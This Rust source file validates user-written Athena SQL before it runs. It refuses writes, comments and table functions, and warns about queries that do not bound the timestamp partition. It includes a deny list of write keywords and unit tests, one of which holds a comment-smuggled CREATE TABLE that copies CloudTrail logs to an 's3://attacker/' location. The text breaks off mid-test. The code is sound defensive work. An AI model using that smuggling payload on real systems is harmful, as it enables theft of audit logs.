//! SQL the user wrote (raw mode), checked before it runs: one statement, a read as Athena's
//! engine reads it, and whether every table it reads is bounded on the `timestamp`
//! partition (without that Athena may scan the whole trail, and bill for it), and over
//! which days. Writes, and table functions (which hand their text to another source), are
//! refused; an unbounded read warns. Athena has the last word on what is valid SQL.
//!
//! What is refused is decided on Trino's own tokens (`trino`): sqlparser's generic dialect
//! reads some SQL differently (its comments nest), so SQL they could read differently is
//! refused too (any comment, any string or quoted name they split differently).

use super::trino::{self, Token as Lexed};
use chrono::NaiveDate;
use sqlparser::ast::{
    BinaryOperator, Expr, InTarget, ObjectName, Query, Select, SetExpr, Statement, TableFactor,
    TableWithJoins, Value, Visit, Visitor,
};
use sqlparser::dialect::GenericDialect;
use sqlparser::parser::Parser;
use sqlparser::tokenizer::{Token, Tokenizer};
use std::ops::ControlFlow;

/// The partition column every layout has (`sql::Layout`): the one that bounds a scan.
const PARTITION: &str = "timestamp";

/// How the partition writes its days (`sql::select` writes them so, and the table's
/// projection reads them so).
const PARTITION_DAY: &str = "%Y/%m/%d";

/// What the check found.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum RawCheck {
    /// A query every table read of which is bounded on `timestamp` at both ends (or that
    /// reads no table): partition-pruned. `span` says over which days.
    Pruned,
    /// Not a scan of the table at all (SHOW, DESCRIBE, EXPLAIN without ANALYZE): runs as is.
    NoScan,
    /// A query reading a table not bounded on `timestamp`: it may scan the whole trail.
    /// Runs only once confirmed.
    Unpruned,
    /// Not understood by the parser (Athena knows SQL it does not): nothing proves the scan
    /// is bounded, so it runs only once confirmed. `reason` is the parser's message.
    Unchecked { reason: String },
    /// Never sent: empty, more than one statement, not a read, or SQL the engine could
    /// read differently from this check.
    Refused { reason: String },
}

impl RawCheck {
    /// Must the user confirm before it runs?
    pub fn needs_confirmation(&self) -> bool {
        matches!(self, Self::Unpruned | Self::Unchecked { .. })
    }

    /// What to say before asking for that confirmation (or why it is refused).
    pub fn warning(&self) -> Option<String> {
        match self {
            Self::Pruned | Self::NoScan => None,
            Self::Unpruned => Some(
                "the query does not bound the \"timestamp\" partition at both ends on every \
                 table it reads: it may scan the whole trail (Athena bills $5 per TB scanned)"
                    .into(),
            ),
            Self::Unchecked { reason } => Some(format!(
                "the query could not be checked ({reason}): nothing shows it constrains the \
                 \"timestamp\" partition, so it may scan the whole trail (Athena bills $5 per \
                 TB scanned)"
            )),
            Self::Refused { reason } => Some(reason.clone()),
        }
    }
}

/// The words a read begins with, for a statement the parser cannot read: anything else
/// could change the catalog (DROP, CREATE, INSERT, UNLOAD, MSCK ...), which the console
/// does only through its own confirmed requests.
const READ_WORDS: [&str; 7] = [
    "SELECT", "WITH", "VALUES", "TABLE", "SHOW", "DESCRIBE", "EXPLAIN",
];

/// Words that make a statement a write wherever they stand (a WITH before an INSERT, an
/// EXPLAIN ANALYZE of a CTAS): no read needs them outside a string or a quoted name.
/// `SHOW CREATE TABLE` is the one read holding one.
const WRITE_WORDS: [&str; 22] = [
    "INSERT",
    "UPDATE",
    "DELETE",
    "MERGE",
    "CREATE",
    "DROP",
    "ALTER",
    "TRUNCATE",
    "MSCK",
    "REFRESH",
    "UNLOAD",
    "CALL",
    "GRANT",
    "REVOKE",
    "DENY",
    "EXECUTE",
    "PREPARE",
    "DEALLOCATE",
    "VACUUM",
    "OPTIMIZE",
    "COMMENT",
    "REPAIR",
];

/// Why SQL holding a comment is refused.
pub const NO_COMMENTS: &str = "remove the comments: Athena's engine ends a /* comment at its \
    first */ (comments do not nest there), so a comment can hide a statement from this check";

/// Why SQL calling a table function is refused.
pub const NO_TABLE_FUNCTIONS: &str = "remove the table function (TABLE(...), or a name called \
    with arguments in FROM; UNNEST is fine): one such as system.query hands its text to the \
    source it queries, which may run a write there";

fn refused(reason: impl Into<String>) -> RawCheck {
    RawCheck::Refused {
        reason: reason.into(),
    }
}

/// Checks `sql` before it is sent to Athena.
pub fn check(sql: &str) -> RawCheck {
    let statement = match as_trino_reads(sql) {
        Ok(s) => s,
        Err(refusal) => return refusal,
    };
    let dialect = GenericDialect {};
    if let Err(refusal) = quoted_alike(&dialect, sql, &statement.tokens) {
        return refusal;
    }
    let parsed = match Parser::parse_sql(&dialect, sql) {
        Ok(p) => p,
        // EXPLAIN ANALYZE runs the statement it explains: unread, it could be a write.
        Err(e) if statement.head == "EXPLAIN" && statement.has_word("ANALYZE") => {
            return refused(format!(
                "EXPLAIN ANALYZE runs its statement, and this one cannot be checked: {}",
                crate::sanitize::clean(&e.to_string())
            ));
        }
        Err(e) => {
            return RawCheck::Unchecked {
                reason: crate::sanitize::clean(&e.to_string()).into_owned(),
            };
        }
    };
    match parsed.as_slice() {
        [statement] => statement_check(statement),
        [] => refused("expected a SELECT"),
        _ => refused("one statement at a time"),
    }
}

/// The one statement of `sql`, as Trino reads it.
struct TrinoStatement<'a> {
    /// All of `sql`'s tokens (no comment among them).
    tokens: Vec<Lexed<'a>>,
    /// Its first word, upper-cased: one of `READ_WORDS`.
    head: String,
}

impl TrinoStatement<'_> {
    fn has_word(&self, word: &str) -> bool {
        self.tokens.iter().any(|t| t.is_word(word))
    }
}

/// `sql` as Trino reads it, when that is one statement headed by a read, with no comment,
/// no write word and nothing another of Athena's engines would read otherwise.
fn as_trino_reads(sql: &str) -> Result<TrinoStatement<'_>, RawCheck> {
    // What Athena's lexer cannot read, it refuses too.
    let tokens = trino::tokens(sql).map_err(|e| refused(format!("cannot read the SQL: {e}")))?;
    if tokens
        .iter()
        .any(|t| matches!(t, Lexed::LineComment | Lexed::BlockComment))
    {
        return Err(refused(NO_COMMENTS));
    }
    let statement = match statements(&tokens).as_slice() {
        [] => return Err(refused("expected a SELECT")),
        [one] => *one,
        _ => return Err(refused("one statement at a time")),
    };
    let head = match statement.first() {
        Some(Lexed::Word(w)) => w.to_ascii_uppercase(),
        _ => String::new(),
    };
    if !READ_WORDS.contains(&head.as_str()) {
        return Err(refused(not_a_read()));
    }
    if let Some(word) = write_word(statement) {
        return Err(refused(format!(
            "{}; this SQL holds {word} (quote it if it is a name: \"{}\")",
            not_a_read(),
            word.to_ascii_lowercase()
        )));
    }
    if calls_a_table_function(statement) {
        return Err(refused(NO_TABLE_FUNCTIONS));
    }
    // Athena runs SHOW and DESCRIBE with its Hive DDL engine, where `\'` does not end a
    // string as it does in Trino.
    if matches!(head.as_str(), "SHOW" | "DESCRIBE") && sql.contains('\\') {
        return Err(refused(format!(
            "{head} with a backslash: Athena reads it with another engine, where a backslash \
             escapes a quote: remove the backslash"
        )));
    }
    Ok(TrinoStatement { tokens, head })
}

/// Refuses SQL whose strings and quoted names sqlparser reads otherwise than Trino (`$$`,
/// `E'\''`): what it would check is not what Athena runs.
fn quoted_alike(dialect: &GenericDialect, sql: &str, trino: &[Lexed]) -> Result<(), RawCheck> {
    let tokens = Tokenizer::new(dialect, sql).tokenize().map_err(|e| {
        refused(format!(
            "cannot read the SQL: {}",
            crate::sanitize::clean(&e.to_string())
        ))
    })?;
    if quoting(&tokens) == trino_quoting(trino) {
        Ok(())
    } else {
        Err(refused(
            "the SQL's strings or quoted names read differently in Athena's engine than in \
             this check: write strings as '...' ('' for a quote) and names as \"...\"",
        ))
    }
}

fn not_a_read() -> String {
    "sagewatch runs only reads here: SELECT (or WITH), SHOW, DESCRIBE, EXPLAIN".into()
}

/// The statements, split at `;` (empty ones dropped).
fn statements<'t, 'a>(lexed: &'t [Lexed<'a>]) -> Vec<&'t [Lexed<'a>]> {
    lexed
        .split(|t| *t == Lexed::Punct(';'))
        .filter(|s| !s.is_empty())
        .collect()
}

/// The first word that makes `statement` a write, as written.
fn write_word<'a>(statement: &[Lexed<'a>]) -> Option<&'a str> {
    statement.iter().enumerate().find_map(|(i, t)| {
        let Lexed::Word(w) = t else { return None };
        let upper = w.to_ascii_uppercase();
        let show_create = upper == "CREATE" && i > 0 && statement[i - 1].is_word("SHOW");
        (WRITE_WORDS.contains(&upper.as_str()) && !show_create).then_some(*w)
    })
}

/// Whether `statement` holds `TABLE (`: Trino's table function call (the `TABLE t` query
/// takes no parenthesis), refused even where the parser cannot read the SQL.
fn calls_a_table_function(statement: &[Lexed]) -> bool {
    statement
        .windows(2)
        .any(|w| w[0].is_word("TABLE") && w[1] == Lexed::Punct('('))
}

/// A string's or a quoted name's value, in the order they come: what the two readers of the
/// SQL must agree on.
#[derive(Debug, PartialEq, Eq)]
enum Quoted {
    Str(String),
    Name(String),
    /// A kind of literal Trino does not have.
    Other,
}

fn trino_quoting(lexed: &[Lexed]) -> Vec<Quoted> {
    lexed
        .iter()
        .filter_map(|t| match t {
            Lexed::Str(s) => Some(Quoted::Str(s.clone())),
            Lexed::Quoted(s) => Some(Quoted::Name(s.clone())),
            _ => None,
        })
        .collect()
}

fn quoting(tokens: &[Token]) -> Vec<Quoted> {
    tokens
        .iter()
        .filter_map(|t| match t {
            Token::Word(w) => w.quote_style.map(|_| Quoted::Name(w.value.clone())),
            Token::SingleQuotedString(s)
            | Token::NationalStringLiteral(s)
            | Token::HexStringLiteral(s) => Some(Quoted::Str(s.clone())),
            Token::DoubleQuotedString(s) => Some(Quoted::Name(s.clone())),
            Token::DollarQuotedString(_)
            | Token::TripleSingleQuotedString(_)
            | Token::TripleDoubleQuotedString(_)
            | Token::SingleQuotedByteStringLiteral(_)
            | Token::DoubleQuotedByteStringLiteral(_)
            | Token::TripleSingleQuotedByteStringLiteral(_)
            | Token::TripleDoubleQuotedByteStringLiteral(_)
            | Token::SingleQuotedRawStringLiteral(_)
            | Token::DoubleQuotedRawStringLiteral(_)
            | Token::TripleSingleQuotedRawStringLiteral(_)
            | Token::TripleDoubleQuotedRawStringLiteral(_)
            | Token::QuoteDelimitedStringLiteral(_)
            | Token::NationalQuoteDelimitedStringLiteral(_)
            | Token::EscapedStringLiteral(_)
            | Token::UnicodeStringLiteral(_) => Some(Quoted::Other),
            _ => None,
        })
        .collect()
}

fn statement_check(statement: &Statement) -> RawCheck {
    if holds_a_write(statement) {
        return refused(not_a_read());
    }
    if reads_a_table_function(statement) {
        return refused(NO_TABLE_FUNCTIONS);
    }
    match statement {
        Statement::Query(_) => match scans(statement) {
            Some(_) => RawCheck::Pruned,
            None => RawCheck::Unpruned,
        },
        // EXPLAIN ANALYZE runs the statement: it scans as the statement would.
        Statement::Explain {
            analyze: true,
            statement: inner,
            ..
        } => statement_check(inner),
        Statement::Explain { .. }
        | Statement::ExplainTable { .. }
        | Statement::ShowFunctions { .. }
        | Statement::ShowVariable { .. }
        | Statement::ShowStatus { .. }
        | Statement::ShowVariables { .. }
        | Statement::ShowCreate { .. }
        | Statement::ShowColumns { .. }
        | Statement::ShowCatalogs { .. }
        | Statement::ShowDatabases { .. }
        | Statement::ShowSchemas { .. }
        | Statement::ShowCharset(_)
        | Statement::ShowObjects(_)
        | Statement::ShowTables { .. }
        | Statement::ShowViews { .. }
        | Statement::ShowCollation { .. } => RawCheck::NoScan,
        _ => refused(not_a_read()),
    }
}

/// Whether a statement is nested in this one that is not a query (`WITH a AS (...) INSERT
/// ...` parses as a query whose body is an INSERT).
fn holds_a_write(statement: &Statement) -> bool {
    struct Nested {
        seen: usize,
    }
    impl Visitor for Nested {
        type Break = ();
        fn pre_visit_statement(&mut self, s: &Statement) -> ControlFlow<()> {
            self.seen += 1;
            let top = self.seen == 1;
            if top || matches!(s, Statement::Query(_)) {
                ControlFlow::Continue(())
            } else {
                ControlFlow::Break(())
            }
        }
        fn pre_visit_query(&mut self, q: &Query) -> ControlFlow<()> {
            if body_writes(&q.body) {
                ControlFlow::Break(())
            } else {
                ControlFlow::Continue(())
            }
        }
    }
    fn body_writes(body: &SetExpr) -> bool {
        match body {
            SetExpr::Insert(_) | SetExpr::Update(_) | SetExpr::Delete(_) | SetExpr::Merge(_) => {
                true
            }
            SetExpr::SetOperation { left, right, .. } => body_writes(left) || body_writes(right),
            _ => false,
        }
    }
    statement.visit(&mut Nested { seen: 0 }).is_break()
}

/// Whether a FROM of `statement` calls a table function: `TABLE(f(...))`, `LATERAL f(...)`
/// or `f(...)` (a table factor with arguments). UNNEST is not one.
fn reads_a_table_function(statement: &Statement) -> bool {
    struct Calls;
    impl Visitor for Calls {
        type Break = ();
        fn pre_visit_table_factor(&mut self, factor: &TableFactor) -> ControlFlow<()> {
            match factor {
                TableFactor::TableFunction { .. } | TableFactor::Function { .. } => {
                    ControlFlow::Break(())
                }
                TableFactor::Table { args: Some(_), .. } => ControlFlow::Break(()),
                _ => ControlFlow::Continue(()),
            }
        }
    }
    statement.visit(&mut Calls).is_break()
}

/// The days of the `timestamp` partition a pruned query reads, from the literals bounding
/// it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Span {
    /// It reads no table.
    NoTable,
    /// From the first day to the last (both read).
    Days(NaiveDate, NaiveDate),
    /// Some bound is not a day as the partition writes it (`yyyy/MM/dd`), or the query is
    /// not a pruned one: nothing shows how many days it reads.
    Unknown,
}

/// The days `sql` reads, for SQL `check` found `Pruned`: from the earliest lower bound of
/// the tables it reads to the latest upper one.
pub fn span(sql: &str) -> Span {
    let Ok(parsed) = Parser::parse_sql(&GenericDialect {}, sql) else {
        return Span::Unknown;
    };
    let [statement] = parsed.as_slice() else {
        return Span::Unknown;
    };
    let Some(bounds) = scans(statement) else {
        return Span::Unknown;
    };
    let day = |s: &str| {
        (s.len() == 10)
            .then(|| NaiveDate::parse_from_str(s, PARTITION_DAY).ok())
            .flatten()
    };
    let mut days = Vec::with_capacity(bounds.len());
    for (low, high) in &bounds {
        match (day(low), day(high)) {
            (Some(l), Some(h)) => days.push((l, h.max(l))),
            _ => return Span::Unknown,
        }
    }
    let first = days.iter().map(|d| d.0).min();
    let last = days.iter().map(|d| d.1).max();
    match first.zip(last) {
        Some((first, last)) => Span::Days(first, last),
        None => Span::NoTable,
    }
}

/// The `timestamp` bounds (lowest, highest) of every table `statement` reads, or `None`
/// when one is not bounded at both ends.
///
/// A table is bounded by the top-level AND terms of the WHERE of the SELECT whose FROM
/// holds it (not a CTE or a subquery's: those are checked where they read) comparing its
/// `timestamp` (quoted or not, in any case; qualified by its alias or name, or unqualified
/// when it is that FROM's only table) with non-empty string literals: `=`, BETWEEN or IN a
/// list bound both ends, `>`/`>=` the lower and `<`/`<=` the upper. `timestamp IS NOT
/// NULL`, `> ''`, a bound under an OR, or an unbounded arm of a UNION bounds nothing; nor
/// does any bound on a table whose alias renames its columns (`t(a, "timestamp")`).
fn scans(statement: &Statement) -> Option<Vec<(String, String)>> {
    let mut v = Scans {
        scopes: Vec::new(),
        bounded: Vec::new(),
        bounds: Vec::new(),
    };
    statement.visit(&mut v).is_continue().then_some(v.bounds)
}

/// The CTE names one query's WITH gives, and how many of them are in scope where the walk
/// stands. As in Trino's (non-recursive) WITH, a name is in scope in the query's body and
/// in the bodies of the CTEs after it, not in its own nor in an earlier one's. A WITH
/// RECURSIVE gets the same scope: its names are in scope in more places than that, so a
/// name read there counts as a table, which can only make the check ask when it need not.
struct CteScope {
    /// Each CTE's name and the address of its body.
    ctes: Vec<(String, usize)>,
    /// The first `visible` names are in scope: all of them in the query's body, those
    /// before it in a CTE's body.
    visible: usize,
}

impl CteScope {
    fn of(query: &Query) -> Self {
        let ctes: Vec<(String, usize)> = query.with.as_ref().map_or_else(Vec::new, |with| {
            with.cte_tables
                .iter()
                .map(|c| (c.alias.name.value.clone(), query_address(&c.query)))
                .collect()
        });
        let visible = ctes.len();
        Self { ctes, visible }
    }

    /// Which CTE `query` is the body of, if one of this scope's.
    fn body_of(&self, query: &Query) -> Option<usize> {
        let at = query_address(query);
        self.ctes.iter().position(|(_, body)| *body == at)
    }

    fn has(&self, name: &str) -> bool {
        self.ctes[..self.visible]
            .iter()
            .any(|(c, _)| c.eq_ignore_ascii_case(name))
    }
}

fn query_address(query: &Query) -> usize {
    std::ptr::from_ref(query) as usize
}

struct Scans {
    /// The CTE scopes of the queries the walk is in, innermost last.
    scopes: Vec<CteScope>,
    /// The table references bounded by their SELECT's WHERE, by address: a reference the
    /// walk meets that is not among them (in a FROM, a join, `TABLE t`, `x IN t`) reads
    /// the table unbounded.
    bounded: Vec<usize>,
    bounds: Vec<(String, String)>,
}

fn address(name: &ObjectName) -> usize {
    std::ptr::from_ref(name) as usize
}

/// A table a FROM reads: its name and the name its columns are qualified by.
struct TableRead<'a> {
    name: &'a ObjectName,
    called: String,
    /// Its alias renames its columns (`t(a, "timestamp")`): a `"timestamp"` term may name
    /// any column but the partition, so none bounds it.
    renamed: bool,
}

impl Visitor for Scans {
    type Break = ();

    fn pre_visit_select(&mut self, select: &Select) -> ControlFlow<()> {
        let mut reads = Vec::new();
        for twj in &select.from {
            self.tables(twj, &mut reads);
        }
        let terms: Vec<&Expr> = [&select.selection, &select.prewhere]
            .into_iter()
            .flatten()
            .flat_map(conjuncts)
            .collect();
        let only = reads.len() == 1;
        for read in reads.iter().filter(|r| !r.renamed) {
            let (mut low, mut high): (Option<String>, Option<String>) = (None, None);
            for bound in terms.iter().filter_map(|t| partition_bound(t)) {
                let mine = match &bound.qualifier {
                    Some(q) => q.eq_ignore_ascii_case(&read.called),
                    None => only,
                };
                if !mine {
                    continue;
                }
                // The partition is text: its bounds narrow as strings compare.
                if let Some(l) = bound.low {
                    low = Some(low.map_or(l.clone(), |o| o.max(l)));
                }
                if let Some(h) = bound.high {
                    high = Some(high.map_or(h.clone(), |o| o.min(h)));
                }
            }
            if let (Some(low), Some(high)) = (low, high) {
                self.bounded.push(address(read.name));
                self.bounds.push((low, high));
            }
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_relation(&mut self, relation: &ObjectName) -> ControlFlow<()> {
        if self.bounded.contains(&address(relation)) || self.is_cte(relation) {
            ControlFlow::Continue(())
        } else {
            ControlFlow::Break(())
        }
    }

    fn pre_visit_query(&mut self, query: &Query) -> ControlFlow<()> {
        // A CTE's body sees the CTEs before it (the walk visits them in order).
        if let Some(outer) = self.scopes.last_mut()
            && let Some(k) = outer.body_of(query)
        {
            outer.visible = k;
        }
        self.scopes.push(CteScope::of(query));
        if self.reads_a_whole_table(&query.body) {
            ControlFlow::Break(())
        } else {
            ControlFlow::Continue(())
        }
    }

    fn post_visit_query(&mut self, query: &Query) -> ControlFlow<()> {
        self.scopes.pop();
        // Past a CTE's body, its name is in scope too.
        if let Some(outer) = self.scopes.last_mut()
            && let Some(k) = outer.body_of(query)
        {
            outer.visible = k + 1;
        }
        ControlFlow::Continue(())
    }
}

impl Scans {
    /// Whether `name` is a CTE in scope where the walk stands (a one-part name only).
    fn is_cte(&self, name: &ObjectName) -> bool {
        let single = match name.0.as_slice() {
            [one] => one.as_ident().map(|i| i.value.as_str()),
            _ => None,
        };
        single.is_some_and(|n| self.is_cte_name(n))
    }

    fn is_cte_name(&self, name: &str) -> bool {
        self.scopes.iter().any(|s| s.has(name))
    }

    /// `TABLE t`: all of `t` (its name is no relation the walk meets).
    fn reads_a_whole_table(&self, body: &SetExpr) -> bool {
        match body {
            SetExpr::Table(t) => !t
                .table_name
                .as_ref()
                .is_some_and(|n| t.schema_name.is_none() && self.is_cte_name(&n.value)),
            SetExpr::SetOperation { left, right, .. } => {
                self.reads_a_whole_table(left) || self.reads_a_whole_table(right)
            }
            _ => false,
        }
    }

    /// The tables (not CTEs) of a FROM item and its joins, nested joins included.
    fn tables<'a>(&self, twj: &'a TableWithJoins, out: &mut Vec<TableRead<'a>>) {
        self.factor(&twj.relation, out);
        for j in &twj.joins {
            self.factor(&j.relation, out);
        }
    }

    fn factor<'a>(&self, factor: &'a TableFactor, out: &mut Vec<TableRead<'a>>) {
        match factor {
            TableFactor::Table { name, alias, .. } if !self.is_cte(name) => {
                let called = match alias {
                    Some(a) => a.name.value.clone(),
                    None => name
                        .0
                        .last()
                        .and_then(|p| p.as_ident())
                        .map(|i| i.value.clone())
                        .unwrap_or_default(),
                };
                let renamed = alias.as_ref().is_some_and(|a| !a.columns.is_empty());
                out.push(TableRead {
                    name,
                    called,
                    renamed,
                });
            }
            TableFactor::NestedJoin {
                table_with_joins, ..
            } => self.tables(table_with_joins, out),
            // Their columns are made anew (a measure may be called "timestamp"): what the
            // WHERE compares is not the partition.
            TableFactor::Pivot { table, .. }
            | TableFactor::Unpivot { table, .. }
            | TableFactor::MatchRecognize { table, .. } => {
                let from = out.len();
                self.factor(table, out);
                for read in &mut out[from..] {
                    read.renamed = true;
                }
            }
            _ => {}
        }
    }
}

/// The terms of `a AND b AND (c AND d)`.
fn conjuncts(expr: &Expr) -> Vec<&Expr> {
    match expr {
        Expr::BinaryOp {
            left,
            op: BinaryOperator::And,
            right,
        } => {
            let mut out = conjuncts(left);
            out.extend(conjuncts(right));
            out
        }
        Expr::Nested(inner) => conjuncts(inner),
        e => vec![e],
    }
}

/// One term bounding `timestamp`: the qualifier of the column (`t` of `t.timestamp`) and
/// the ends it bounds.
struct Bound {
    qualifier: Option<String>,
    low: Option<String>,
    high: Option<String>,
}

/// `Some(qualifier)` when `expr` is the partition column: `None` inside when unqualified.
fn partition_column(expr: &Expr) -> Option<Option<String>> {
    let is = |name: &str| name.eq_ignore_ascii_case(PARTITION);
    match expr {
        Expr::Identifier(ident) if is(&ident.value) => Some(None),
        Expr::CompoundIdentifier(parts) => match parts.as_slice() {
            [.., qualifier, column] if is(&column.value) => Some(Some(qualifier.value.clone())),
            _ => None,
        },
        Expr::Nested(inner) => partition_column(inner),
        _ => None,
    }
}

/// A non-empty string literal's value: the partition is text, and `''` bounds nothing.
fn literal(expr: &Expr) -> Option<String> {
    match expr {
        Expr::Value(v) => match &v.value {
            Value::SingleQuotedString(s) if !s.is_empty() => Some(s.clone()),
            _ => None,
        },
        Expr::Nested(inner) => literal(inner),
        _ => None,
    }
}

fn partition_bound(term: &Expr) -> Option<Bound> {
    let bound = |qualifier, low, high| {
        Some(Bound {
            qualifier,
            low,
            high,
        })
    };
    match term {
        Expr::BinaryOp { left, op, right } => {
            // `timestamp op 'v'`, or `'v' op timestamp` read the other way round.
            let (qualifier, value, op) = match (partition_column(left), literal(right)) {
                (Some(q), Some(v)) => (q, v, op.clone()),
                _ => match (literal(left), partition_column(right)) {
                    (Some(v), Some(q)) => (q, v, flipped(op)?),
                    _ => return None,
                },
            };
            match op {
                BinaryOperator::Eq => bound(qualifier, Some(value.clone()), Some(value)),
                BinaryOperator::Gt | BinaryOperator::GtEq => bound(qualifier, Some(value), None),
                BinaryOperator::Lt | BinaryOperator::LtEq => bound(qualifier, None, Some(value)),
                _ => None,
            }
        }
        Expr::Between {
            expr,
            negated: false,
            low,
            high,
        } => bound(partition_column(expr)?, literal(low), literal(high)),
        Expr::In {
            expr,
            target: InTarget::List(list),
            negated: false,
            ..
        } => {
            let qualifier = partition_column(expr)?;
            let values: Option<Vec<String>> = list.iter().map(literal).collect();
            let values = values.filter(|v| !v.is_empty())?;
            bound(
                qualifier,
                values.iter().min().cloned(),
                values.iter().max().cloned(),
            )
        }
        Expr::Nested(inner) => partition_bound(inner),
        _ => None,
    }
}

/// `'v' < timestamp` is `timestamp > 'v'`.
fn flipped(op: &BinaryOperator) -> Option<BinaryOperator> {
    Some(match op {
        BinaryOperator::Eq => BinaryOperator::Eq,
        BinaryOperator::Lt => BinaryOperator::Gt,
        BinaryOperator::LtEq => BinaryOperator::GtEq,
        BinaryOperator::Gt => BinaryOperator::Lt,
        BinaryOperator::GtEq => BinaryOperator::LtEq,
        _ => return None,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::trail::filter::parse;
    use crate::trail::sql::{Layout, Table, event_detail, select};

    const EXAMPLE: &str = "SELECT useridentity.arn, useridentity.sessioncontext.sourceidentity, \
        requestparameters FROM observability_replicated_logs WHERE eventname = 'CreateEndpoint' \
        AND eventsource = 'sagemaker.amazonaws.com'";

    #[test]
    fn the_issues_example_parses_and_is_unpruned() {
        assert_eq!(check(EXAMPLE), RawCheck::Unpruned);
        assert!(check(EXAMPLE).needs_confirmation());
        assert!(
            check(EXAMPLE)
                .warning()
                .unwrap()
                .contains("may scan the whole trail")
        );
    }

    #[test]
    fn a_timestamp_predicate_prunes_it_however_it_is_written() {
        let pruned = format!(
            "{EXAMPLE} AND \"timestamp\" >= '2026/11/01' AND \"timestamp\" <= '2026/11/29'"
        );
        assert_eq!(check(&pruned), RawCheck::Pruned);
        for predicate in [
            "timestamp >= '2026/11/01' AND timestamp < '2026/11/03'",
            "'2026/11/01' < timestamp AND '2026/11/03' >= \"timestamp\"",
            "\"TimeStamp\" BETWEEN '2026/11/01' AND '2026/11/02'",
            "t.\"timestamp\" = '2026/11/01'",
            "t.timestamp IN ('2026/11/01')",
        ] {
            let sql = format!("SELECT * FROM logs t WHERE eventname = 'X' AND {predicate}");
            assert_eq!(check(&sql), RawCheck::Pruned, "{sql}");
        }
        // In a subquery's WHERE, in a CTE, in every UNION arm.
        for sql in [
            "SELECT * FROM (SELECT * FROM logs WHERE \"timestamp\" = '2026/11/01') s",
            "WITH r AS (SELECT * FROM logs WHERE \"timestamp\" = '2026/11/01') SELECT * FROM r",
            "SELECT 1 FROM a WHERE timestamp = '2026/11/02' UNION ALL SELECT 1 FROM logs WHERE \"timestamp\" BETWEEN '2026/11/01' AND '2026/11/02'",
            "SELECT * FROM logs WHERE (eventname = 'X' AND (\"timestamp\" >= '2026/11/01' AND (\"timestamp\" <= '2026/11/02')))",
            // Every table of a join, each by its alias or its name.
            "SELECT * FROM logs a JOIN other ON a.x = other.x WHERE a.\"timestamp\" = '2026/11/01' AND other.timestamp = '2026/11/01'",
            "SELECT * FROM (logs a CROSS JOIN logs b) WHERE a.\"timestamp\" = '2026/11/01' AND b.\"timestamp\" = '2026/11/01'",
            // A CTE read in a join is checked where it reads.
            "WITH r AS (SELECT * FROM logs WHERE \"timestamp\" = '2026/11/01') SELECT * FROM r JOIN logs l ON r.x = l.x WHERE l.\"timestamp\" = '2026/11/01'",
        ] {
            assert_eq!(check(sql), RawCheck::Pruned, "{sql}");
        }
    }

    #[test]
    fn a_mention_that_does_not_bound_the_scan_does_not_prune() {
        for sql in [
            // Under an OR: the other side reads every partition.
            "SELECT * FROM logs WHERE \"timestamp\" = '2026/11/29' OR eventname = 'X'",
            "SELECT * FROM logs WHERE \"timestamp\" IS NOT NULL",
            "SELECT * FROM logs WHERE \"timestamp\" NOT BETWEEN '2026/11/01' AND '2026/11/02'",
            "SELECT * FROM logs WHERE \"timestamp\" = eventtime",
            // Bounded only inside the subquery: the outer read is whole.
            "SELECT * FROM logs WHERE eventid IN (SELECT eventid FROM other WHERE \"timestamp\" = '2026/11/01')",
            // One UNION arm unbounded.
            "SELECT 1 FROM a UNION ALL SELECT 1 FROM logs WHERE \"timestamp\" = '2026/11/01'",
        ] {
            assert_eq!(check(sql), RawCheck::Unpruned, "{sql}");
        }
    }

    #[test]
    fn timestamp_outside_a_where_does_not_prune() {
        for sql in [
            "SELECT \"timestamp\" FROM logs",
            "SELECT * FROM logs ORDER BY \"timestamp\"",
            "SELECT * FROM logs WHERE eventtime > 'timestamp'",
        ] {
            assert_eq!(check(sql), RawCheck::Unpruned, "{sql}");
        }
    }

    #[test]
    fn explain_analyze_of_what_cannot_be_read_is_refused() {
        let sql = "EXPLAIN ANALYZE INSERT INTO t SELECT json_query(x, 'lax $.a' WITH ARRAY WRAPPER) FROM x";
        assert!(
            matches!(check(sql), RawCheck::Refused { .. }),
            "{:?}",
            check(sql)
        );
    }

    #[test]
    fn one_statement_at_a_time() {
        assert_eq!(
            check("SELECT 1; DROP TABLE x"),
            refused("one statement at a time")
        );
        // Even when the parser cannot read the first one.
        assert_eq!(
            check("SELECT ~~~ weird; DROP TABLE x"),
            refused("one statement at a time")
        );
        // A trailing semicolon is still one statement (which reads no table).
        assert_eq!(check("SELECT 1;"), RawCheck::Pruned);
    }

    #[test]
    fn nothing_is_not_a_select() {
        for sql in ["", "   ", ";", " ; ;\n"] {
            assert_eq!(check(sql), refused("expected a SELECT"), "{sql:?}");
        }
    }

    #[test]
    fn what_the_parser_cannot_read_is_unchecked_not_refused() {
        let sql = "SELECT eventname FROM logs WHERE eventname = 'X' QUALIFY LIKE LIKE";
        match check(sql) {
            RawCheck::Unchecked { reason } => assert!(!reason.is_empty()),
            other => panic!("{other:?}"),
        }
        assert!(check(sql).needs_confirmation());
    }

    #[test]
    fn reads_that_scan_nothing_run_and_writes_are_refused() {
        for sql in [
            "SHOW TABLES",
            "SHOW COLUMNS FROM cloudtrail_logs",
            "DESCRIBE cloudtrail_logs",
            "EXPLAIN SELECT * FROM logs",
        ] {
            assert_eq!(check(sql), RawCheck::NoScan, "{sql}");
        }
        assert_eq!(
            check("EXPLAIN ANALYZE SELECT * FROM logs"),
            RawCheck::Unpruned
        );
        for sql in [
            "DROP TABLE x",
            "INSERT INTO x SELECT * FROM logs",
            "CREATE TABLE y AS SELECT * FROM logs",
            "MSCK REPAIR TABLE logs",
            "/* hidden */ DELETE FROM logs",
        ] {
            assert!(
                matches!(check(sql), RawCheck::Refused { .. }),
                "{sql}: {:?}",
                check(sql)
            );
        }
    }

    /// The issue's write: sqlparser's generic dialect nests comments, so it read only the
    /// SELECT after the `--`; Trino ends the comment at the first `*/` and runs the CTAS.
    const HIDDEN_CTAS: &str = "/* /* */ CREATE TABLE evil WITH (external_location='s3://attacker/x/') AS SELECT * FROM cloudtrail_logs -- */ SELECT eventname FROM cloudtrail_logs WHERE \"timestamp\" = '2026/11/29'";

    fn is_refused(sql: &str) -> bool {
        matches!(check(sql), RawCheck::Refused { .. })
    }

    #[test]
    fn a_write_hidden_in_a_comment_as_trino_reads_it_is_refused() {
        assert_eq!(check(HIDDEN_CTAS), refused(NO_COMMENTS));
        for write in [
            "DROP TABLE cloudtrail_logs",
